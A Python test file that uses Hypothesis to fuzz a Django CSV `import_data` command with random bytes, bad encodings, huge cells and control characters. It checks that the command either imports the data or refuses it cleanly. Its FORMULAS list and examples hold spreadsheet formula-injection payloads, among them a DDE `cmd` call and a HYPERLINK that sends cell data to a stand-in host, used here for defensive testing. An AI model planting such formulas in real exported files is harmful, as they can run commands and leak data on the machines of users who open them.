"""`import_data` under hostile input: whatever the bytes, it imports them or refuses them.

A refusal prints only `file:line: column: message` lines and writes nothing; no input ends in a
traceback. Hypothesis writes accounts.csv and contacts.csv from random bytes, text in the wrong
encoding, cells of 100,000+ characters, spreadsheet formulas, NUL and control characters and
quotes that never close. The examples are bounded so the test runs in seconds; a failure prints
the smallest input that breaks the rule.
"""

import csv
import io
import re
import tempfile
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.conftest import table_counts

pytestmark = pytest.mark.django_db

ACCOUNT_COLUMNS = ["external_id", "name", "segment", "owner_email", "created_on"]
CONTACT_COLUMNS = ["external_id", "account_external_id", "name", "email", "is_champion"]
PROBLEM_LINE = re.compile(r"^(accounts|contacts)\.csv:\d+: \S.*: .+")

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ODD = ['"', '""', "'", ",", "\n", "\r", "\x00", "\x1b[31m", "\ufeff", "\u202e", "é", "😀", "NULL"]

huge = st.builds(
    lambda char, length: char * length,
    st.sampled_from(["a", '"', "=", ",", "\n", "é"]),
    st.sampled_from([256, 10_001, 140_000]),  # past the text limits, past csv's field limit
)
# One cell in about twelve is huge, so an example stays small enough to run in milliseconds.
cell = st.one_of(
    *[st.text(max_size=12)] * 5,
    *[st.sampled_from(FORMULAS + ODD)] * 3,
    *[st.sampled_from(["A1", "A2", "2024-01-31", "2024-02-30", "ops@customer.example", "yes"])] * 3,
    huge,
)


@st.composite
def csv_text(draw, columns: list[str]) -> str:
    """A header (sometimes reordered, short or with a stranger) and a few rows whose cell
    count may not match it, written properly quoted or naively joined (quotes left open)."""
    header = draw(st.permutations(columns))
    if draw(st.booleans()):
        header = header[: draw(st.integers(1, len(header)))]
    if draw(st.integers(0, 5)) == 0:
        header = [*header, draw(st.sampled_from(["", "=evil", "name", "Extra"]))]
    rows = [header]
    for _ in range(draw(st.integers(0, 4))):
        width = len(header) + draw(st.sampled_from([0, 0, 0, -1, 1]))
        rows.append([draw(cell) for _ in range(max(width, 0))])
    if draw(st.booleans()):
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        return out.getvalue()
    return "".join(",".join(row) + draw(st.sampled_from(["\n", "\r\n", "\r"])) for row in rows)


def encoded(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


def file_bytes(columns: list[str]):
    return st.one_of(
        st.binary(max_size=300),
        st.builds(
            encoded,
            csv_text(columns),
            st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16"]),
        ),
    )


def run_import_data(directory: Path) -> tuple[CommandError | None, list[str]]:
    stdout, stderr = io.StringIO(), io.StringIO()
    try:
        call_command("import_data", str(directory), stdout=stdout, stderr=stderr)
    except CommandError as error:  # anything else propagates: a traceback fails the test
        return error, [line for line in stderr.getvalue().splitlines() if line.strip()]
    return None, [line for line in stderr.getvalue().splitlines() if line.strip()]


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)
@given(
    accounts=file_bytes(ACCOUNT_COLUMNS),
    contacts=st.one_of(st.none(), file_bytes(CONTACT_COLUMNS)),
)
# Cases found by this test once, kept so they are always run.
@example(accounts=b"external_id,name\nA1,Ac\x00me\n", contacts=None)  # NUL reached COPY
@example(  # the text before a bad byte held a field past csv's limit
    accounts=b"external_id,name\n" + b"a" * 140_000 + b",\x80\n", contacts=None
)
@example(
    accounts=b"external_id,name\nA1,=cmd|' /C calc'!A0\nA2,@SUM(1)\n",
    contacts=b"external_id,account_external_id,name\nC1,A1,+1+1\n",
)
@example(accounts=b'external_id,name\nA1,"Acme\nA2,Globex\n', contacts=None)
def test_any_input_is_imported_or_refused_with_file_and_line_and_nothing_written(
    db, accounts, contacts
):
    with tempfile.TemporaryDirectory() as folder:
        directory = Path(folder)
        (directory / "accounts.csv").write_bytes(accounts)
        if contacts is not None:
            (directory / "contacts.csv").write_bytes(contacts)
        before = table_counts()

        error, printed = run_import_data(directory)

        if error is None:
            assert not [line for line in printed if PROBLEM_LINE.match(line)], printed
            return
        assert str(error).endswith("nothing was written."), error
        problems = [line for line in printed if not line.startswith(" ")]  # not progress lines
        assert problems, "a refusal must say why"
        assert all(PROBLEM_LINE.match(line) for line in problems), problems
        assert table_counts() == before
